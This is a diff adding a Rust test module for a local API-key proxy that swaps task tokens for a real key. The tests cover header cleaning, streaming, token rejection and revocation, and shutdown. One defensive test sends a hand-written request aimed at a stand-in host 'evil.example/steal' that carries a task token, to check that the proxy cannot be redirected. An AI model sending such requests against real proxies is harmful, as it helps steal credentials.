@@ -1,0 +1,386 @@
+//! Tests of the parent module.
+use super::*;
+
+use std::future::Future;
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+
+use http_body_util::channel::Channel;
+use http_body_util::combinators::BoxBody;
+use http_body_util::{BodyExt, Empty};
+use tokio::sync::{mpsc, Notify};
+
+const REAL_KEY: &str = "sk-real-key-never-shown";
+const REAL_AUTH: &str = "real-oauth-token";
+const SSE_CHUNKS: [&str; 3] =
+  ["event: message_start\ndata: {\"n\":1}\n\n", "event: delta\ndata: {\"n\":2}\n\n", "event: message_stop\ndata: {}\n\n"];
+
+type TestBody = BoxBody<Bytes, Infallible>;
+type TestClient = Client<HttpConnector, TestBody>;
+
+/// Fails the test instead of hanging when something that must happen does not.
+async fn within<T>(f: impl Future<Output = T>) -> T {
+  tokio::time::timeout(Duration::from_secs(10), f).await.expect("timed out waiting")
+}
+
+struct Seen {
+  method: Method,
+  target: String,
+  headers: HeaderMap,
+}
+
+/// A plain-HTTP upstream that records what it got. `/.../sse` streams `SSE_CHUNKS`: the first right away, the rest
+/// only after `release_sse` is notified. `/.../echo` reports each request-body chunk on `req_chunks` and echoes the
+/// body. Anything else answers a small JSON body.
+struct FakeUpstream {
+  addr: SocketAddr,
+  seen: Mutex<Vec<Seen>>,
+  hits: AtomicUsize,
+  release_sse: Notify,
+  last_sse_sent: AtomicBool,
+  req_chunks: mpsc::UnboundedSender<Bytes>,
+}
+
+impl FakeUpstream {
+  async fn start() -> (Arc<FakeUpstream>, mpsc::UnboundedReceiver<Bytes>) {
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
+    let (tx, rx) = mpsc::unbounded_channel();
+    let fake = Arc::new(FakeUpstream {
+      addr: listener.local_addr().unwrap(),
+      seen: Mutex::default(),
+      hits: AtomicUsize::new(0),
+      release_sse: Notify::new(),
+      last_sse_sent: AtomicBool::new(false),
+      req_chunks: tx,
+    });
+    let server = fake.clone();
+    tokio::spawn(async move {
+      loop {
+        let (stream, _) = listener.accept().await.unwrap();
+        let fake = server.clone();
+        tokio::spawn(async move {
+          let svc = service_fn(move |req| {
+            let fake = fake.clone();
+            async move { Ok::<_, Infallible>(fake.handle(req).await) }
+          });
+          let _ = http1::Builder::new().serve_connection(TokioIo::new(stream), svc).await;
+        });
+      }
+    });
+    (fake, rx)
+  }
+
+  fn url(&self) -> String {
+    format!("http://{}", self.addr)
+  }
+
+  async fn handle(self: Arc<Self>, req: Request<Incoming>) -> Response<TestBody> {
+    self.hits.fetch_add(1, Ordering::SeqCst);
+    let (parts, mut body) = req.into_parts();
+    let target = parts.uri.path_and_query().unwrap().to_string();
+    self.seen.lock().unwrap().push(Seen { method: parts.method, target: target.clone(), headers: parts.headers });
+    let path = parts.uri.path();
+    if path.ends_with("/sse") {
+      let (mut tx, rx) = Channel::<Bytes, Infallible>::new(1);
+      let fake = self.clone();
+      tokio::spawn(async move {
+        tx.send_data(Bytes::from_static(SSE_CHUNKS[0].as_bytes())).await.unwrap();
+        fake.release_sse.notified().await;
+        for (i, chunk) in SSE_CHUNKS.iter().enumerate().skip(1) {
+          tokio::time::sleep(Duration::from_millis(10)).await;
+          if i == SSE_CHUNKS.len() - 1 {
+            fake.last_sse_sent.store(true, Ordering::SeqCst);
+          }
+          if tx.send_data(Bytes::from_static(chunk.as_bytes())).await.is_err() {
+            return;
+          }
+        }
+      });
+      let mut resp = Response::new(rx.boxed());
+      resp.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static("text/event-stream"));
+      resp
+    } else if path.ends_with("/echo") {
+      let mut all = Vec::new();
+      while let Some(frame) = body.frame().await {
+        if let Ok(data) = frame.unwrap().into_data() {
+          all.extend_from_slice(&data);
+          let _ = self.req_chunks.send(data);
+        }
+      }
+      Response::new(Full::new(Bytes::from(all)).boxed())
+    } else {
+      let mut resp = Response::new(Full::new(Bytes::from_static(b"{\"ok\":true}")).boxed());
+      resp.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static("application/json"));
+      resp
+    }
+  }
+
+  fn last_seen(&self) -> Seen {
+    self.seen.lock().unwrap().pop().expect("upstream got no request")
+  }
+}
+
+fn client() -> TestClient {
+  Client::builder(TokioExecutor::new()).build_http()
+}
+
+fn get(proxy: &KeyProxy, path_and_query: &str) -> hyper::http::request::Builder {
+  Request::get(format!("{}{path_and_query}", proxy.base_url()))
+}
+
+fn empty() -> TestBody {
+  Empty::new().boxed()
+}
+
+async fn body_string(resp: Response<Incoming>) -> String {
+  String::from_utf8(resp.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap()
+}
+
+async fn proxy_for(upstream: &FakeUpstream) -> KeyProxy {
+  KeyProxy::start(Upstream { base_url: upstream.url(), api_key: Some(REAL_KEY.into()), auth_token: None }).await.unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn valid_token_is_swapped_for_real_key_and_headers_are_cleaned() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let token = proxy.issue();
+  assert_eq!(token.as_str().len(), 64);
+  let req = Request::post(format!("{}/v1/messages?beta=true", proxy.base_url()))
+    .header("x-api-key", token.as_str())
+    .header("anthropic-version", "2023-06-01")
+    .header("content-type", "application/json")
+    .header("connection", "x-drop-me")
+    .header("x-drop-me", "1")
+    .header("proxy-authorization", "Basic Zm9vOmJhcg==")
+    .body(Full::new(Bytes::from_static(b"{\"model\":\"m\"}")).boxed())
+    .unwrap();
+  let resp = within(client().request(req)).await.unwrap();
+  assert_eq!(resp.status(), StatusCode::OK);
+  assert_eq!(body_string(resp).await, "{\"ok\":true}");
+
+  let seen = upstream.last_seen();
+  assert_eq!(seen.method, Method::POST);
+  assert_eq!(seen.target, "/v1/messages?beta=true");
+  assert_eq!(seen.headers["x-api-key"], REAL_KEY);
+  assert!(seen.headers.get("authorization").is_none());
+  assert_eq!(seen.headers["anthropic-version"], "2023-06-01");
+  assert_eq!(seen.headers["content-type"], "application/json");
+  assert_eq!(seen.headers["host"], upstream.addr.to_string().as_str());
+  assert!(seen.headers.get("x-drop-me").is_none());
+  assert!(seen.headers.get("proxy-authorization").is_none());
+  for (name, value) in &seen.headers {
+    assert!(!value.as_bytes().windows(64).any(|w| w == token.as_str().as_bytes()), "task token leaked upstream in {name}");
+  }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bearer_task_token_is_accepted_and_auth_token_forwarded() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = KeyProxy::start(Upstream { base_url: upstream.url(), api_key: Some(REAL_KEY.into()), auth_token: Some(REAL_AUTH.into()) })
+    .await
+    .unwrap();
+  let token = proxy.issue();
+  let req = get(&proxy, "/v1/models").header("authorization", format!("Bearer {}", token.as_str())).body(empty()).unwrap();
+  let resp = within(client().request(req)).await.unwrap();
+  assert_eq!(resp.status(), StatusCode::OK);
+  let seen = upstream.last_seen();
+  assert_eq!(seen.headers["authorization"], format!("Bearer {REAL_AUTH}").as_str());
+  assert!(seen.headers.get("x-api-key").is_none());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sse_response_streams_chunk_by_chunk() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let token = proxy.issue();
+  let req = get(&proxy, "/v1/sse").header("x-api-key", token.as_str()).body(empty()).unwrap();
+  let resp = within(client().request(req)).await.unwrap();
+  assert_eq!(resp.status(), StatusCode::OK);
+  assert_eq!(resp.headers()["content-type"], "text/event-stream");
+  let mut body = resp.into_body();
+
+  // The first event must come through while the upstream is still holding back the rest.
+  let mut got = Vec::new();
+  while got.len() < SSE_CHUNKS[0].len() {
+    let frame = within(body.frame()).await.expect("body ended early").unwrap();
+    got.extend_from_slice(&frame.into_data().unwrap());
+  }
+  assert_eq!(got, SSE_CHUNKS[0].as_bytes());
+  assert!(!upstream.last_sse_sent.load(Ordering::SeqCst), "the last chunk must not have been sent yet");
+
+  upstream.release_sse.notify_one();
+  let rest = within(body.collect()).await.unwrap().to_bytes();
+  assert!(upstream.last_sse_sent.load(Ordering::SeqCst));
+  assert_eq!(rest, SSE_CHUNKS[1..].concat().as_bytes());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn request_body_streams_upward() {
+  let (upstream, mut req_chunks) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let token = proxy.issue();
+  let (mut tx, body) = Channel::<Bytes, Infallible>::new(1);
+  let req = Request::post(format!("{}/v1/echo", proxy.base_url())).header("x-api-key", token.as_str()).body(body.boxed()).unwrap();
+  let pending = tokio::spawn(client().request(req));
+
+  tx.send_data(Bytes::from_static(b"part-one;")).await.unwrap();
+  // The upstream must see the first part before the second one even exists.
+  let mut got = Vec::new();
+  while got.len() < b"part-one;".len() {
+    got.extend_from_slice(&within(req_chunks.recv()).await.unwrap());
+  }
+  assert_eq!(got, b"part-one;");
+  tx.send_data(Bytes::from_static(b"part-two")).await.unwrap();
+  drop(tx);
+
+  let resp = within(pending).await.unwrap().unwrap();
+  assert_eq!(resp.status(), StatusCode::OK);
+  assert_eq!(body_string(resp).await, "part-one;part-two");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn unknown_or_missing_token_is_rejected_without_calling_upstream() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let _live = proxy.issue();
+  let attempts = [
+    get(&proxy, "/v1/messages").header("x-api-key", "0".repeat(64)),
+    get(&proxy, "/v1/messages").header("authorization", "Bearer nope"),
+    get(&proxy, "/v1/messages").header("x-api-key", REAL_KEY),
+    get(&proxy, "/v1/messages"),
+  ];
+  for req in attempts {
+    let resp = within(client().request(req.body(empty()).unwrap())).await.unwrap();
+    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
+    assert_eq!(resp.headers()["content-type"], "application/json");
+    let body = body_string(resp).await;
+    assert!(body.starts_with(r#"{"type":"error","error":{"type":"authentication_error","message":""#), "{body}");
+  }
+  assert_eq!(upstream.hits.load(Ordering::SeqCst), 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn dropped_token_is_revoked() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let token = proxy.issue();
+  let other = proxy.issue();
+  let value = token.as_str().to_owned();
+  let send = |v: &str| client().request(get(&proxy, "/v1/models").header("x-api-key", v).body(empty()).unwrap());
+
+  assert_eq!(within(send(&value)).await.unwrap().status(), StatusCode::OK);
+  drop(token);
+  assert_eq!(within(send(&value)).await.unwrap().status(), StatusCode::UNAUTHORIZED);
+  assert_eq!(within(send(other.as_str())).await.unwrap().status(), StatusCode::OK);
+  assert_eq!(upstream.hits.load(Ordering::SeqCst), 2);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn path_prefix_and_query_are_preserved() {
+  let (upstream, _) = FakeUpstream::start().await;
+  for base in [format!("{}/prefix", upstream.url()), format!("{}/prefix/", upstream.url())] {
+    let proxy = KeyProxy::start(Upstream { base_url: base, api_key: Some(REAL_KEY.into()), auth_token: None }).await.unwrap();
+    let token = proxy.issue();
+    let req = get(&proxy, "/v1/messages/count_tokens?beta=true&x=a%20b").header("x-api-key", token.as_str()).body(empty()).unwrap();
+    assert_eq!(within(client().request(req)).await.unwrap().status(), StatusCode::OK);
+    assert_eq!(upstream.last_seen().target, "/prefix/v1/messages/count_tokens?beta=true&x=a%20b");
+  }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn absolute_form_target_cannot_redirect_to_another_host() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let token = proxy.issue();
+  // Written by hand: an absolute-form request line naming some other host.
+  let mut stream = TcpStream::connect(proxy.inner.addr).await.unwrap();
+  let raw = format!(
+    "GET http://evil.example/steal?k=1 HTTP/1.1\r\nhost: evil.example\r\nx-api-key: {}\r\nconnection: close\r\n\r\n",
+    token.as_str()
+  );
+  tokio::io::AsyncWriteExt::write_all(&mut stream, raw.as_bytes()).await.unwrap();
+  let mut out = String::new();
+  within(tokio::io::AsyncReadExt::read_to_string(&mut stream, &mut out)).await.unwrap();
+  assert!(out.starts_with("HTTP/1.1 200"), "{out}");
+  let seen = upstream.last_seen();
+  assert_eq!(seen.target, "/steal?k=1");
+  assert_eq!(seen.headers["host"], upstream.addr.to_string().as_str());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn upstream_down_gives_502() {
+  let dead = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap().local_addr().unwrap();
+  let proxy =
+    KeyProxy::start(Upstream { base_url: format!("http://{dead}"), api_key: Some(REAL_KEY.into()), auth_token: None }).await.unwrap();
+  let token = proxy.issue();
+  let req = get(&proxy, "/v1/messages").header("x-api-key", token.as_str()).body(empty()).unwrap();
+  let resp = within(client().request(req)).await.unwrap();
+  assert_eq!(resp.status(), StatusCode::BAD_GATEWAY);
+  let body = body_string(resp).await;
+  assert!(body.starts_with(r#"{"type":"error","error":{"type":"api_error","message":"local key proxy could not reach"#), "{body}");
+  assert!(!body.contains(REAL_KEY));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn many_concurrent_requests() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let client = client();
+  let tasks: Vec<_> = (0..64)
+    .map(|i| {
+      let (proxy, client) = (proxy.clone(), client.clone());
+      tokio::spawn(async move {
+        let token = proxy.issue();
+        let req = get(&proxy, &format!("/v1/messages?i={i}")).header("x-api-key", token.as_str()).body(empty()).unwrap();
+        let resp = client.request(req).await.unwrap();
+        (resp.status(), body_string(resp).await)
+      })
+    })
+    .collect();
+  for task in tasks {
+    let (status, body) = within(task).await.unwrap();
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body, "{\"ok\":true}");
+  }
+  assert_eq!(upstream.hits.load(Ordering::SeqCst), 64);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn shutdown_cuts_streams_and_stops_listening() {
+  let (upstream, _) = FakeUpstream::start().await;
+  let proxy = proxy_for(&upstream).await;
+  let token = proxy.issue();
+  let req = get(&proxy, "/v1/sse").header("x-api-key", token.as_str()).body(empty()).unwrap();
+  let mut body = within(client().request(req)).await.unwrap().into_body();
+  within(body.frame()).await.unwrap().unwrap();
+
+  proxy.shutdown();
+  let rest = within(body.collect()).await;
+  assert!(rest.is_err(), "a stream in flight must be cut by shutdown");
+  let req = get(&proxy, "/v1/models").header("x-api-key", token.as_str()).body(empty()).unwrap();
+  assert!(within(client().request(req)).await.is_err());
+}
+
+#[tokio::test]
+async fn bad_upstream_config_is_rejected() {
+  for base_url in ["", "api.anthropic.com", "ftp://host", "http://host/p?q=1"] {
+    let err = KeyProxy::start(Upstream { base_url: base_url.into(), api_key: None, auth_token: None }).await.unwrap_err();
+    assert_eq!(err.kind(), io::ErrorKind::InvalidInput, "{base_url}");
+  }
+  let err = KeyProxy::start(Upstream { base_url: "https://api.anthropic.com".into(), api_key: Some("bad\nkey".into()), auth_token: None })
+    .await
+    .unwrap_err();
+  assert_eq!(err.kind(), io::ErrorKind::InvalidInput);
+  let ok = KeyProxy::start(Upstream { base_url: "https://api.anthropic.com/".into(), api_key: Some(REAL_KEY.into()), auth_token: None })
+    .await
+    .unwrap();
+  assert!(ok.base_url().starts_with("http://127.0.0.1:"));
+  ok.shutdown();
+  let dbg = format!("{:?}", Upstream { base_url: "x".into(), api_key: Some(REAL_KEY.into()), auth_token: None });
+  assert!(!dbg.contains(REAL_KEY));
+}
+
+#[test]
+fn json_errors_are_escaped() {
+  assert_eq!(json_escape("a\"b\\c\nd\u{1}"), "a\\\"b\\\\c\\nd\\u0001");
+}
